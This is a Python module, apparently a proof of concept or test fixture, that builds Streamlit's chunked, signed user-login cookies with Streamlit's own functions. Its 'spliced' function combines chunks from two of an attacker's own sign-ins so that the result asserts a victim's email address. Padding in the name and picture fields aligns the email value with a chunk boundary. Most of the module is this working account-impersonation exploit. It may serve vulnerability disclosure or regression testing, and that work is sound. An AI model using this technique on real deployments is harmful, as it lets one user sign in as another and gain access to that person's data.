"""Two honest sign-ins of one person, with a name and a picture that they chose, whose chunks name somebody else."""

import json
import random
import string

from streamlit.auth_util import set_cookie_with_chunks
from streamlit.web.server.starlette.starlette_app_utils import create_signed_value, decode_signed_value
from streamlit.web.server.starlette.starlette_server_config import USER_COOKIE_NAME

ATTRIBUTES = 60  # bytes that Streamlit counts for a cookie's path and age


def cookies_of(claims: dict, secret: str) -> dict[str, str]:
    """The cookies that Streamlit's own code sets for these claims: one, or a count and chunks."""
    cookies: dict[str, str] = {}

    def keep(name: str, value: str) -> None:
        cookies[name] = create_signed_value(secret, name, value).decode()

    signed = lambda name, value: create_signed_value(secret, name, value)  # noqa: E731
    set_cookie_with_chunks(keep, signed, USER_COOKIE_NAME, claims, cookie_attr_size=ATTRIBUTES)
    return cookies


def claims(mail: str, origin: str, *, name: str = "", picture: str = "") -> dict:
    """What a provider says of somebody, in the order of a usual ID token, and what Streamlit adds."""
    return {
        "sub": "7",
        "name": name,
        "email": mail,
        "email_verified": True,
        "picture": picture,
        "origin": origin,
        "is_logged_in": True,
        "provider": "default",
    }


def filler(length: int) -> str:
    """Letters that do not compress: Streamlit splits by the size of the signed, compressed value."""
    return "".join(random.Random(length).choices(string.ascii_letters + string.digits, k=length))  # noqa: S311


def chunk_size(secret: str) -> int:
    """How many characters of the claims Streamlit puts into a chunk."""
    long = cookies_of(claims("a@b.c", "o", picture=filler(9000)), secret)
    return len(decode_signed_value(secret, f"{USER_COOKIE_NAME}_1", long[f"{USER_COOKIE_NAME}_1"]) or b"")


def spliced(victim: str, attacker: str, origin: str, secret: str) -> dict[str, str]:
    """Cookies of the attacker's own two sign-ins that together say `victim`.

    The second chunk of one ends after `"email": "`, which its name pushes there; the third chunk of the other begins
    with the victim's address, which its picture holds at that place.
    """
    both = 2 * chunk_size(secret)
    head = json.dumps(claims(attacker, origin)).index(attacker)
    first = claims(attacker, origin, name=filler(both - head), picture=filler(100))
    before = json.dumps(claims(attacker, origin, picture="@@")).index("@@")
    second = claims(attacker, origin, picture=filler(both - before) + victim)
    one, two = cookies_of(first, secret), cookies_of(second, secret)
    return one | {f"{USER_COOKIE_NAME}_3": two[f"{USER_COOKIE_NAME}_3"]}
